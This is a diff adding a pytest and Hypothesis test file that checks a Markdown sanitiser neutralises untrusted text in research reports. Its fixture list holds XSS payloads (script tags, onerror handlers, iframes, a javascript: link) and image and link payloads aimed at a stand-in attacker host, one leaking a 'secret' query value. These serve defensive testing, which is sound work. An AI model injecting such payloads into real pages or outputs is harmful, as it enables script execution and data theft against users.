@@ -1,0 +1,65 @@
+"""What strangers wrote must not act in a rendered report; judged by a CommonMark renderer."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from deep_research.text.inert_markdown import inert
+
+_RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
+_ACTING = {"html_inline", "html_block", "link_open", "image"}
+
+ATTACKS = (
+    "<script>alert(1)</script>",
+    "Text <img src=http://attacker.test/x.png onerror=alert(1)> text",
+    "<!-- hidden -->\n<iframe src='http://attacker.test'></iframe>",
+    "![chart](http://attacker.test/?q=secret)",
+    "![chart][one]\n\n[one]: http://attacker.test/x.png",
+    "[your bank](http://attacker.test/) and [two]\n\n[two]: <http://attacker.test/>",
+    "[a\nb]: http://attacker.test/\n\n[a b]",
+    "<http://attacker.test/?q=1>",
+    "<!DOCTYPE html><?php echo 1 ?>",
+    "`one | two <b>` | <i>x</i>\n--- | ---\n`a | <b>b</b>` | c",
+    "an ` unmatched tick\nand `<script>alert(1)</script>` here",
+    "> ```\n<script>alert(1)</script>",
+    "- ~~~\n<script>alert(1)</script>",
+    "1. x\n   ```\n<script>alert(1)</script>\n```\n<b>\n```",
+    "```\ncode\n``` \n<script>alert(1)</script>",
+    "~~~\ncode\n```\n~~~~\n<b>x</b>",
+    "\\![x](http://attacker.test) \\<b> \\\\<b>",
+    "``a` <b>`` `<i>",
+    "&lt;b> [x]&#40;http://attacker.test&#41;",
+    "[![x](http://a.test/y.png)](javascript:alert(1))",
+    "line\r<script>alert(1)</script>",
+)
+
+
+def acting(markdown: str) -> list[str]:
+    """The kinds of tokens in a rendering that load, lead or act."""
+    tokens = _RENDERER.parse(markdown)
+    return [t.type for token in tokens for t in (token, *(token.children or ())) if t.type in _ACTING]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_in_it_acts(attack: str) -> None:
+    assert acting(inert(attack)) == []
+    assert inert(inert(attack)) == inert(attack)
+
+
+@given(st.text(alphabet="<b>/!-[]()`~|\\:\n> aé1.\r&", max_size=60))
+def test_nothing_acts_in_whatever_is_made_of_these_characters(text: str) -> None:
+    assert acting(inert(text)) == []
+    assert inert(inert(text)) == inert(text)
+
+
+def test_structure_and_code_stay() -> None:
+    text = (
+        "# Title\n\n> *quoted* **bold** a < b, 3 <4\n\n| a | b |\n|---|---|\n| `List<String>` | 1 |\n\n"
+        "```\n<html>![x](y)\n```\n\n- item `a[i](x)` [1][2]\n"
+    )
+    assert inert(text) == text
+
+
+def test_a_code_block_that_is_not_closed_ends_with_the_text() -> None:
+    assert inert("```\n<b>") == "```\n<b>\n```"
